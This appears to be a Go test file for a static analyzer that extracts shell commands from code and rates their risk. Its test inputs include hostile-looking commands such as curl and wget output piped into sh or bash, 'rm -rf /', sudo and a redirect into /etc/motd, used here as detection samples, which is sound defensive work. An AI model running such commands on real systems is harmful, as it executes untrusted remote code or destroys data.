package analysis

import (
	"slices"
	"testing"
)

func TestShellLiterals(t *testing.T) {
	t.Parallel()

	code := "execSync(\"curl -s https://x.sh | sh\");\n" +
		"os.system('rm -rf /tmp/x')\n" +
		"spawn(`ls -la`);\n" +
		"call(\"fs_read\", args);\n" +
		"exec(cmd);\n"

	got := ShellLiterals(code)
	want := []string{"curl -s https://x.sh | sh", "rm -rf /tmp/x", "ls -la"}
	if !slices.Equal(got, want) {
		t.Errorf("ShellLiterals() = %q, want %q", got, want)
	}
}

func TestAnalyzeShell(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name    string
		command string
		reason  string
		sev     Severity
	}{
		{"curl pipe sh", "curl -s https://x.sh | sh", "pipe into interpreter sh", SeverityCritical},
		{"pipe to absolute bash", "wget -qO- http://x | /bin/bash", "pipe into interpreter bash", SeverityCritical},
		{"plain pipeline", "ls | wc -l", "pipeline", SeverityLow},
		{"redirect", "echo hi > /etc/motd", "shell redirection", SeverityMedium},
		{"substitution", "echo $(whoami)", "command substitution", SeverityMedium},
		{"rm -rf", "rm -rf /", "recursive forced delete", SeverityHigh},
		{"rm split flags", "rm -r -f build", "recursive forced delete", SeverityHigh},
		{"rm long flags", "rm --recursive --force build", "recursive forced delete", SeverityHigh},
		{"sudo", "sudo reboot", "privilege escalation via sudo", SeverityHigh},
		{"download", "curl https://example.com", "network download via curl", SeverityMedium},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			findings := AnalyzeShell(tt.command)
			for _, f := range findings {
				if f.Reason == tt.reason {
					if f.Severity != tt.sev {
						t.Errorf("severity = %s, want %s", f.Severity, tt.sev)
					}
					return
				}
			}
			t.Errorf("no %q finding in %+v", tt.reason, findings)
		})
	}
}

func TestAnalyzeShell_Benign(t *testing.T) {
	t.Parallel()

	for _, cmd := range []string{"ls -la", "rm file.txt", "echo hello", "echo 'unterminated"} {
		if got := AnalyzeShell(cmd); len(got) != 0 {
			t.Errorf("AnalyzeShell(%q) = %+v, want none", cmd, got)
		}
	}
}
